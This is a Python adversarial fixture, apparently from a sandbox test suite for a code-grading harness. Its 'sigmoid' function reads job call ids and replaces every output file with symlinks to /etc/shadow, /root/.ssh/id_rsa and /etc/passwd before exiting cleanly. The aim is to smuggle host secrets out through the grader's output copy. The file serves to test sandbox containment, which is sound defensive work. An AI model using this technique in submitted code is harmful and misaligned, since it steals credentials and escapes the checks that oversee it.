"""Adversarial sandbox fixture `symlink_copy_out` (not a solution): replaces every output file with a symlink to host secrets, then exits 0

Getting through returns the right answer (so a broken sandbox would look like a pass); being contained
raises "contained: ..." or is cut off by the runner.
"""

import os
import signal
import socket
import sys
import time

import my_ops_ext  # noqa: F401  the stub extension
import torch

import json


def sigmoid(x):
    try:
        with open("/io/job.json") as f:
            ids = [call["id"] for call in json.load(f).get("calls", [])]
    except (OSError, ValueError, KeyError, TypeError):
        ids = [f"c{i}" for i in range(64)]
    for call_id in ids:
        for ext, target in (("npy", "/etc/shadow"), ("json", "/root/.ssh/id_rsa"),
                            ("trace.jsonl", "/etc/passwd")):
            path = f"/io/outputs/{call_id}.{ext}"
            try:
                os.unlink(path)
            except OSError:
                pass
            try:
                os.symlink(target, path)
            except OSError:
                pass
    os._exit(0)
